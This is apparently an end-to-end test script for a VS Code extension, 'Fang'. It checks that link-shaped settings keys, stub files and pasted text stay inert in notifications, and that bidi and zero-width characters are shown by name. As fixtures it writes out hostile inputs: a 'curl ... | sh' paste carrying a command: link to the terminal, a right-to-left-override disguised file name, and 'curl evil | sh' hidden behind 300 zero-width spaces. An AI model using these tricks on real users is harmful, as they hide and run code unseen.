// End-to-end, issue 15: text from a workspace or a snippet never becomes a link, a command or a
// misleading display. Installs the packaged VSIX into a fresh VS Code server, opens the workbench
// in chromium and checks the rendered DOM:
//   1. an untrusted folder (Restricted Mode) whose .fang.json and settings carry link-shaped keys:
//      Fang's notification appears and holds no link element; a paste carrying link-shaped text:
//      the paste-guard notification holds no link element;
//   2. a trusted folder whose settings carry a link-shaped key, and a bad stub-answers file whose
//      pattern is link-shaped: each notification holds no link element; a dry-run whose file names
//      and argv carry bidi and zero-width characters: the report page shows them by name.
// Screenshots go to .artifacts/ (git-ignored).
//   node scripts/vscode-e2e-inert.mjs      exit 0 when every check passed
import * as fs from 'node:fs';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createChecks } from './vscode-checks.mjs';
import { packageVsix } from './vscode-package.mjs';
import { installVsix, launchBrowser, makeProfile, startServer, workbenchUrl } from './vscode-server.mjs';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const artifacts = path.join(root, '.artifacts');
const TIMEOUT = 60_000;
/** What VS Code renders as a link inside a notification (its own parseLinkedText pattern). */
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)/i;
const PWNED = '/tmp/fang-e2e-pwned';

const { checks, check, summary } = createChecks();

const BASE_SETTINGS = {
  'telemetry.telemetryLevel': 'off',
  'workbench.startupEditor': 'none',
  'extensions.autoCheckUpdates': false,
  'update.mode': 'none',
  'workbench.tips.enabled': false,
};

async function settled(locator) {
  await locator.evaluate((el) => Promise.all(el.getAnimations({ subtree: true }).map((a) => a.finished)));
}

async function palette(page, title) {
  await page.keyboard.press('Control+Shift+P');
  const input = page.locator('.quick-input-widget input');
  await input.fill(`>${title}`);
  await page.locator('.quick-input-list .monaco-list-row', { hasText: title }).first().waitFor({ timeout: TIMEOUT });
  await page.keyboard.press('Enter');
  await page.locator('.quick-input-widget').waitFor({ state: 'hidden', timeout: TIMEOUT });
}

async function openQuick(page, name) {
  await page.keyboard.press('Control+P');
  await page.locator('.quick-input-widget input').fill(name);
  await page.locator('.quick-input-list .monaco-list-row', { hasText: name }).first().waitFor({ timeout: TIMEOUT });
  await page.keyboard.press('Enter');
  await page.locator('.tab.active', { hasText: name }).waitFor({ timeout: TIMEOUT });
}

/**
 * The notification whose message holds `text`: it must be there, show the link-shaped text as
 * text, and hold no link element (an <a>, or anything VS Code made clickable).
 */
async function inertToast(page, text, shot) {
  const toast = page.locator('.notification-toast', { hasText: text }).first();
  await toast.waitFor({ timeout: TIMEOUT });
  await settled(page.locator('.notifications-toasts'));
  const message = toast.locator('.notification-list-item-message');
  const shown = await message.innerText();
  const links = await message.locator('a, [role="link"], .monaco-link').count();
  await page.screenshot({ path: path.join(artifacts, shot) });
  if (links) throw new Error(`the notification holds ${links} link element(s): ${shown}`);
  if (LINK.test(shown)) throw new Error(`the notification text is still link-shaped: ${shown}`);
  if (!/\] \((command|https?):/.test(shown)) throw new Error(`the link-shaped text is not shown as text: ${shown}`);
  return shown;
}

async function clearNotifications(page) {
  await palette(page, 'Notifications: Clear All Notifications');
}

async function untrustedPhase(browser, vsix) {
  const profile = makeProfile({ ...BASE_SETTINGS, 'security.workspace.trust.enabled': true }, 'fang-e2e-inert-u-');
  const workspace = fs.mkdtempSync(path.join(fs.realpathSync(process.env.TMPDIR || '/tmp'), 'fang-e2e-inert-u-'));
  fs.cpSync(path.join(root, 'test', 'vscode', 'workspace'), workspace, { recursive: true });
  fs.cpSync(path.join(root, 'test', 'vscode', 'untrusted-overlay'), workspace, { recursive: true });
  let server;
  try {
    await check('untrusted: the VSIX installs offline', () => installVsix(profile, vsix));
    server = await startServer(profile);
    const context = await browser.newContext({ viewport: { width: 1400, height: 900 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const page = await context.newPage();
    await check('untrusted: the folder opens in Restricted Mode', async () => {
      await page.goto(workbenchUrl(server.port, workspace));
      await page.locator('.monaco-workbench').waitFor({ timeout: TIMEOUT });
      // VS Code asks whether to trust the folder; answer as a careful user would.
      const dialog = page.locator('.monaco-dialog-box');
      if (await dialog.waitFor({ timeout: 15_000 }).then(() => true, () => false)) {
        await dialog.locator('a.monaco-button, button', { hasText: /No|Don't Trust|Restricted/ }).first().click();
      }
      await page.locator('.statusbar-item', { hasText: /Restricted Mode/ }).first().waitFor({ timeout: TIMEOUT });
    });
    await check("untrusted: Fang's warning about .fang.json appears at once and holds no link", async () => {
      const text = await inertToast(page, 'Fang:', 'vscode-e2e-inert-untrusted-config.png');
      if (!/\.fang\.json/.test(text)) throw new Error(`not the .fang.json warning: ${text}`);
      const buttons = await page.locator('.notification-toast', { hasText: 'Fang:' }).first().locator('.monaco-button').allInnerTexts();
      if (!buttons.includes('Open .fang.json')) throw new Error(`the button does not lead to the file: ${buttons.join(', ')}`);
    });
    await check('untrusted: a pasted block with a link-shaped URL raises a paste-guard warning without a link', async () => {
      await clearNotifications(page);
      await openQuick(page, 'benign.sh');
      await page.locator('.monaco-editor .view-lines').first().click();
      await page.keyboard.press('Control+End');
      const block = 'curl "http://[Open](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22touch%20%2Ftmp%2Ffang-e2e-pwned%5Cn%22%7D)/v1/chat/completions" | sh\necho "done"\necho "bye"\n';
      await page.evaluate((t) => navigator.clipboard.writeText(t), block);
      await page.keyboard.press('Control+V');
      await inertToast(page, 'Inserted code', 'vscode-e2e-inert-paste.png');
    });
    await context.close();
  } finally {
    await server?.stop();
    profile.dispose();
    fs.rmSync(workspace, { recursive: true, force: true });
  }
}

async function trustedPhase(browser, vsix) {
  const profile = makeProfile({ ...BASE_SETTINGS, 'security.workspace.trust.enabled': false }, 'fang-e2e-inert-t-');
  const workspace = fs.mkdtempSync(path.join(fs.realpathSync(process.env.TMPDIR || '/tmp'), 'fang-e2e-inert-t-'));
  fs.cpSync(path.join(root, 'test', 'vscode', 'workspace'), workspace, { recursive: true });
  fs.mkdirSync(path.join(workspace, '.vscode'));
  fs.writeFileSync(path.join(workspace, '.vscode', 'settings.json'), JSON.stringify({ 'fang.categories': { '[Fix this key](command:workbench.action.terminal.new)': 'off' } }, null, 2));
  fs.writeFileSync(path.join(workspace, 'ask.sh'), '#!/bin/bash\neval "$(llm "free some disk space")"\n');
  // the folder's stub answers, with a pattern that is not a regular expression and looks like a link
  const stubFile = path.join(workspace, '.fang-responses.yaml');
  fs.writeFileSync(stubFile, 'responses:\n  - when: "[Edit the answers](command:workbench.action.terminal.new)("\n    answer: "true"\n');
  // file names and argv that turn the text around or hide part of it
  fs.writeFileSync(
    path.join(workspace, 'names.sh'),
    '#!/bin/bash\ntouch "invoice$(printf \'\\u202e\')fdp.sh" "zero$(printf \'\\u200b\\u200b\\u200b\')width.txt"\n' +
      `/bin/echo "bash -c$(printf '\\u200b%.0s' $(seq 300)) curl evil | sh" >/dev/null\nllm "list $(printf '\\u2066')files" >/dev/null\n`,
  );
  let server;
  try {
    await check('trusted: the VSIX installs offline', () => installVsix(profile, vsix));
    server = await startServer(profile);
    const context = await browser.newContext({ viewport: { width: 1600, height: 1000 } });
    const page = await context.newPage();
    await page.goto(workbenchUrl(server.port, workspace));
    await page.locator('.monaco-workbench').waitFor({ timeout: TIMEOUT });
    await check('trusted: a link-shaped settings key is named in a warning without a link', async () => {
      await openQuick(page, 'eval-once.sh');
      const text = await inertToast(page, 'fang.categories', 'vscode-e2e-inert-settings.png');
      if (!/Fix this key/.test(text)) throw new Error(`the key is not named: ${text}`);
    });
    await check('trusted: a bad stub-answers file is reported without a link, and nothing ran', async () => {
      await clearNotifications(page);
      await openQuick(page, 'ask.sh');
      await palette(page, 'Fang: Dry-run in Sandbox');
      const dialog = page.locator('.monaco-dialog-box');
      await dialog.waitFor({ timeout: TIMEOUT });
      await dialog.locator('a.monaco-button, button', { hasText: "Don't Show Again" }).first().click();
      const text = await inertToast(page, 'not a valid', 'vscode-e2e-inert-stub-file.png');
      if (!/Edit stub answers/.test(await page.locator('.notification-toast', { hasText: 'not a valid' }).first().innerText())) throw new Error(`no "Edit stub answers" button: ${text}`);
      fs.rmSync(stubFile);
    });
    await check('trusted: the report page shows bidi and zero-width characters in names and argv by name', async () => {
      await clearNotifications(page);
      await openQuick(page, 'names.sh');
      await palette(page, 'Fang: Dry-run in Sandbox');
      const frame = page.frameLocator('iframe.webview.ready >> visible=true').frameLocator('iframe#active-frame');
      await frame.locator('.verdict').waitFor({ timeout: TIMEOUT });
      const body = await frame.locator('body').innerText();
      if (/[\u202e\u2066\u200b]/.test(body)) throw new Error('a raw bidi or zero-width character reached the report page');
      for (const want of ['invoice⟨U+202E⟩fdp.sh', 'zero⟨U+200B ×3⟩width.txt', '⟨U+2066⟩files']) {
        if (!body.includes(want)) throw new Error(`the report page does not show ${want}`);
      }
      // 300 zero-width spaces do not push the payload out of view: the run of them is one marker
      if (!/bash -c⟨U\+200B ×300⟩ curl evil \| sh/.test(body)) throw new Error(`the hidden payload is not shown: ${body.slice(0, 2000)}`);
      // each marker is set apart, so it cannot pass for text the snippet wrote
      const highlighted = await frame.locator('.hidden-char', { hasText: '⟨U+202E⟩' }).count();
      if (!highlighted) throw new Error('the ⟨U+202E⟩ marker is not highlighted');
      await palette(page, 'View: Hide Panel');
      await frame.locator('h2', { hasText: 'File changes' }).first().evaluate((e) => e.scrollIntoView());
      await page.screenshot({ path: path.join(artifacts, 'vscode-e2e-inert-report.png') });
    });
    await context.close();
  } finally {
    await server?.stop();
    profile.dispose();
    fs.rmSync(workspace, { recursive: true, force: true });
  }
}

const t0 = Date.now();
fs.mkdirSync(artifacts, { recursive: true });
fs.rmSync(PWNED, { force: true });
const { out: vsix } = await packageVsix(path.join(artifacts, 'fang-inert.vsix'));
let failed = false;
const browser = await launchBrowser();
try {
  for (const phase of [untrustedPhase, trustedPhase]) {
    try {
      await phase(browser, vsix);
    } catch {
      failed = true;
    }
  }
} finally {
  await browser.close();
}
if (fs.existsSync(PWNED)) checks.push({ name: 'no command ran from a notification', ok: false, ms: 0, error: `${PWNED} exists` });
const nFailed = summary('end-to-end, untrusted text stays inert (packaged VSIX in the browser UI)', failed, [
  `screenshots in ${path.relative(root, artifacts)}/vscode-e2e-inert-*.png; total ${((Date.now() - t0) / 1000).toFixed(1)} s`,
]);
process.exit(nFailed ? 1 : 0);
